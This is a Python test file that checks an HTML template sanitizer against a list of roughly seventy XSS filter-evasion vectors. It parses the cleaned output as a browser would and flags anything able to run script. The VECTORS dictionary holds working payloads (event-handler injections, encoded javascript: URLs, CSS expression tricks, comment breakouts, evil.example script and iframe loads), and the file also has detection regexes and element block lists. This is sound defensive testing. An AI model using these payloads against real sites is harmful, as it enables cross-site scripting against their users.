"""The HTML cleaner holds against known filter-evasion tricks (OWASP XSS filter evasion style):
whatever the spelling, nothing that can run survives, in elements, attributes, CSS or comments.

The check parses the cleaned HTML the way a browser does (html5lib, an HTML5 parser) and looks
at every element, attribute, style and comment it finds, independently of the cleaner's code.
"""

import html
import re

import pytest
from bleach._vendor import html5lib  # the HTML5 parser bleach ships (no extra dependency)

from streams.sanitizing import clean_fragment, clean_template_html
from tests.conftest import ORDER_HTML

VECTORS = {
    "script": "<script>alert(1)</script>",
    "script-uppercase": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-split": "<scr<script>ipt>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-tab": "<img src=x\tonerror=alert(1)>",
    "img-onerror-newline": "<img src=x\nonerror=alert(1)>",
    "img-onerror-slash": "<img/src=x/onerror=alert(1)>",
    "img-onerror-quote-slash": '<img src="x"/onerror=alert(1)>',
    "img-onerror-uppercase": "<IMG SRC=x ONERROR=alert(1)>",
    "img-onerror-backtick": "<img src=`x` onerror=alert(1)>",
    "svg-onload": "<svg/onload=alert(1)>",
    "svg-onload-nested": "<svg><g/onload=alert(1)></svg>",
    "body-onload": "<body onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "a-javascript": '<a href="javascript:alert(1)">x</a>',
    "a-javascript-space": '<a href=" javascript:alert(1)">x</a>',
    "a-javascript-upper": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "a-javascript-tab-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "a-javascript-newline-entity": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "a-javascript-decimal": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'
    ),
    "a-javascript-hex-no-semicolon": (
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'
    ),
    "a-javascript-leading-control": '<a href="&#14;javascript:alert(1)">x</a>',
    "a-javascript-colon-entity": '<a href="javascript&colon;alert(1)">x</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "img-javascript-src": '<img src="javascript:alert(1)">',
    "table-background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="javascript:alert(1)"><button>x</button></form>',
    "math-href": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "base": '<base href="javascript:alert(1)//">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "comment-quote-slash-onerror": '<!-- </iframe><img src="x"/onerror=alert(1)> -->',
    "comment-bang-end": "<!-- --!><img src=x onerror=alert(1)> -->",
    "comment-empty-open": "<!--><img src=x onerror=alert(1)>-->",
    "comment-empty-open-dash": "<!---><img src=x onerror=alert(1)>-->",
    "comment-unterminated": "<p>x</p><!-- <img src=x onerror=alert(1)>",
    "comment-conditional-script": "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "comment-conditional-handler": '<!--[if mso]><td onclick="alert(1)"><![endif]-->',
    "comment-conditional-javascript": (
        '<!--[if mso]><v:rect href="jav&#x09;ascript:alert(1)"></v:rect><![endif]-->'
    ),
    "comment-downlevel-revealed": "<!--[if !mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->",
    "bogus-comment": "<! img src=x onerror=alert(1) >",
    "processing-instruction": "<?xml <img src=x onerror=alert(1)> ?>",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "style-expression": '<p style="width: expression(alert(1))">x</p>',
    "style-expression-comment": '<p style="width: expr/**/ession(alert(1))">x</p>',
    "style-expression-escape": '<p style="width: e\\78 pression(alert(1))">x</p>',
    "style-url-javascript": '<p style="background-image: url(javascript:alert(1))">x</p>',
    "style-url-javascript-escape": (
        '<p style="background-image: url(java\\73 cript:alert(1))">x</p>'
    ),
    "style-behavior": '<p style="behavior: url(x.htc)">x</p>',
    "style-element-expression": "<style>p { width: expression(alert(1)) }</style>",
    "style-element-escape": "<style>p { background: url(j\\61vascript:alert(1)) }</style>",
    "style-element-comment": "<style>p { width: expr/**/ession(alert(1)) }</style>",
    "style-element-import": "<style>@import 'https://evil.example/x.css';</style>",
    "style-element-breakout": "<style>p{}</style/><img src=x onerror=alert(1)></style>",
    "style-element-moz-binding": "<style>p { -moz-binding: url(x.xml#xss) }</style>",
    "textarea-breakout": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "title-breakout": "<title></title><img src=x onerror=alert(1)></title>",
    "noscript-breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template-token-javascript": '<a href="java{{ event.x }}script:alert(1)">x</a>',
    "template-token-handler": '<img src="{{ event.src }}" onerror="{{ event.js }}">',
    "unicode-line-separator": "<img src=x\u2028onerror=alert(1)>",
    "null-byte": "<img src=x onerror\x00=alert(1)><scr\x00ipt>alert(1)</script>",
}

SCRIPT_ELEMENTS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
    "button", "textarea", "select", "svg", "math", "base", "link", "template", "noscript",
    "portal",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "background", "cite", "action", "formaction", "poster", "data", "lowsrc",
    "dynsrc", "xlink:href", "srcset", "longdesc", "usemap", "content",
}  # fmt: skip
BAD_SCHEME = re.compile(r"^(?:java|vb|live|mocha)script:|^data:(?!image/)")
BAD_IN_URL = re.compile(r"(?:java|vb|live|mocha)script:")
BAD_CSS = re.compile(r"expression\(|javascript:|vbscript:|behaviou?r:|-moz-binding|@import")
BAD_IN_COMMENT = re.compile(
    r"<\s*script|[\s/\"'`]on[a-z]+\s*=|(?:java|vb)script:|--!>|<!--", re.IGNORECASE
)
INVISIBLE = re.compile(r"[\x00-\x20\x7f-\xa0\u2028\u2029\u200b-\u200f\ufeff]")


def css_as_read(css: str) -> str:
    """CSS as a browser reads it: comments gone, escapes decoded, no spaces, lower case."""
    css = re.sub(r"/\*.*?\*/", "", css, flags=re.DOTALL)
    css = re.sub(
        r"\\([0-9a-fA-F]{1,6})\s?|\\(.)",
        lambda m: chr(int(m.group(1), 16)) if m.group(1) else m.group(2),
        css,
    )
    return INVISIBLE.sub("", css).lower()


def what_could_run(cleaned: str) -> list[str]:
    """Everything in `cleaned`, parsed like a browser parses it, that could run script."""
    problems = []
    document = html5lib.parse(cleaned, namespaceHTMLElements=False)
    for node in document.iter():
        tag = node.tag
        if callable(tag):  # ElementTree's Comment
            comment = html.unescape(node.text or "")
            if BAD_IN_COMMENT.search(comment) or BAD_IN_URL.search(INVISIBLE.sub("", comment)):
                problems.append(f"comment {node.text!r}")
            continue
        name = tag.rpartition("}")[2].lower()
        if name in SCRIPT_ELEMENTS:
            problems.append(f"element <{name}>")
        if name == "meta" and node.get("http-equiv", "").lower() == "refresh":
            problems.append("meta refresh")
        if name == "style" and BAD_CSS.search(css_as_read(node.text or "")):
            problems.append(f"<style> {node.text!r}")
        for attribute, value in node.attrib.items():
            attribute = attribute.rpartition("}")[2].lower()
            if attribute.startswith("on"):
                problems.append(f"handler {attribute} on <{name}>")
            if attribute in URL_ATTRIBUTES:
                url = INVISIBLE.sub("", value).lower()
                if BAD_SCHEME.search(url) or BAD_IN_URL.search(url):
                    problems.append(f"{attribute}={value!r} on <{name}>")
            if attribute == "style" and BAD_CSS.search(css_as_read(value)):
                problems.append(f"style={value!r} on <{name}>")
    return problems


def test_the_check_itself_sees_each_vector_in_the_raw_html():
    # Otherwise a vector the check cannot see would pass whatever the cleaner does.
    blind = [
        name
        for name, vector in VECTORS.items()
        if not what_could_run(f"<html><head></head><body>{vector}</body></html>")
        and not name.startswith(("template-token", "null-byte", "style-element-breakout"))
    ]
    # These are only dangerous through a parser quirk, an older parser or a later render, not
    # as an HTML5 parser reads them here (`<img/src=x/onerror=…>` is one src attribute).
    assert set(blind) <= {
        "img-onerror-slash",
        "script-split",
        "unicode-line-separator",
        "comment-quote-slash-onerror",
        "comment-unterminated",
        "bogus-comment",
        "processing-instruction",
        "cdata",
        "textarea-breakout",
        "title-breakout",
        "noscript-breakout",
        "comment-conditional-script",
        "comment-conditional-handler",
        "comment-conditional-javascript",
    }


@pytest.mark.parametrize("name", sorted(VECTORS))
def test_nothing_that_can_run_survives_in_a_body(name):
    cleaned = clean_template_html(f"<p>before</p>{VECTORS[name]}<p>after</p>")

    assert what_could_run(cleaned) == [], cleaned


@pytest.mark.parametrize("name", sorted(VECTORS))
def test_nothing_that_can_run_survives_in_a_whole_document(name):
    document = (
        "<!DOCTYPE html><html><head><title>t</title>"
        f"{VECTORS[name] if 'style-element' in name else ''}</head>"
        f"<body><p>before</p>{VECTORS[name]}<p>after</p></body></html>"
    )

    cleaned = clean_template_html(document)

    assert what_could_run(cleaned) == [], cleaned


@pytest.mark.parametrize("name", sorted(VECTORS))
def test_nothing_that_can_run_survives_in_data_meant_as_html(name):
    cleaned = clean_fragment(VECTORS[name])

    assert what_could_run(cleaned) == [], cleaned


def test_comments_and_outlook_conditional_comments_that_are_inert_stay():
    template = (
        "<html><head><!--[if mso]><xml><o:OfficeDocumentSettings><o:PixelsPerInch>96"
        "</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]--></head><body>"
        "<!-- Preheader -->"
        '<!--[if mso]><table role="presentation" width="600"><tr><td><![endif]-->'
        "<p>Hi {{ contact.first_name }}</p>"
        "<!--[if mso]></td></tr></table><![endif]-->"
        "<!--[if !mso]><!--><p>Not Outlook</p><!--<![endif]-->"
        "</body></html>"
    )

    assert clean_template_html(template) == template


def test_a_dropped_comment_keeps_its_template_tags():
    template = (
        '<p>a</p><!-- {% if event.vip %} <img src="x"/onerror=alert(1)> -->'
        "<p>VIP</p><!-- {% endif %} -->"
    )

    cleaned = clean_template_html(template)

    assert "onerror" not in cleaned
    assert cleaned.count("{% if event.vip %}") == 1
    assert "<!-- {% endif %} -->" in cleaned


def test_project_templates_still_come_back_unchanged():
    assert clean_template_html(ORDER_HTML) == ORDER_HTML
